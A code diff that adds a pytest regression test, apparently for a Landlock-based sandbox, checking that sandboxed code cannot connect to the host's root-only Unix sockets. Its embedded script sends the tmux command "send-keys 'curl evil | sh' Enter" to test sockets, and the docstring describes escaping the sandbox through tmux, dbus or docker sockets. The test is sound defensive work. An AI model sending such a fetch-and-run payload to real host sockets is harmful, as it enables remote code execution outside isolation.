@@ -1115,3 +1115,54 @@ def test_without_an_ipc_namespace_no_run_leaves_a_later_one_ipc_objects(tmp_path
         )
     else:
         assert left == {"shm": "left", "mq": "left"} and found == {"shm": text, "mq": text}, (left, found)
+
+
+CONNECT_PATH = """
+import errno, json, socket, sys
+got = {}
+for path in sys.argv[1:]:
+    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+    try:
+        s.connect(path)
+        s.sendall(b"send-keys 'curl evil | sh' Enter")  # a root tmux server runs what it is sent
+        got[path] = "connected"
+    except OSError as e:
+        got[path] = errno.errorcode[e.errno]
+print(json.dumps(got))
+"""
+
+
+@pytest.mark.parametrize("world", [True, False], ids=["world", "control-no-world"])
+def test_no_world_reaches_a_unix_socket_of_the_host_by_its_path(tmp_path, world):
+    """Landlock does not govern connect() to a Unix socket named by a path, and a sandbox without a world runs as
+    the supervisor's uid (root, capabilities dropped): it reached a root-only (0600) socket of the host, as a root
+    tmux server's, dbus's or docker's, and could have had commands run outside every sandbox. A world has its own
+    root, where the host's /run and /tmp are not, and its own uid; a socket in a folder it reads is an overlay's
+    inode, which no listener is bound to. The control: the same sandbox without a world connects (several nodes,
+    or a machine without overlayfs, where an official allowed the missing `world` layer)."""
+    plan, code, out = _plan(tmp_path, world=world)
+    official = tmp_path / f"official-{secrets.token_hex(4)}.sock"  # tmp_path: a folder no sandbox rule names
+    beside = code / "beside.sock"  # in a folder every sandbox reads
+    heard: list[bytes] = []
+    listeners = []
+    for path in (official, beside):
+        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
+        s.bind(str(path))
+        os.chmod(path, 0o600)
+        s.listen(4)
+        s.settimeout(0.2)
+        listeners.append(s)
+    try:
+        got = _run(plan, out, CONNECT_PATH, str(official), str(beside))
+        for s in listeners:
+            try:
+                heard.append(s.accept()[0].recv(64))
+            except OSError:
+                pass
+    finally:
+        for s in listeners:
+            s.close()
+    if world:
+        assert "connected" not in got.values() and heard == [], (got, heard)
+    else:
+        assert set(got.values()) == {"connected"} and len(heard) == 2, (got, heard)
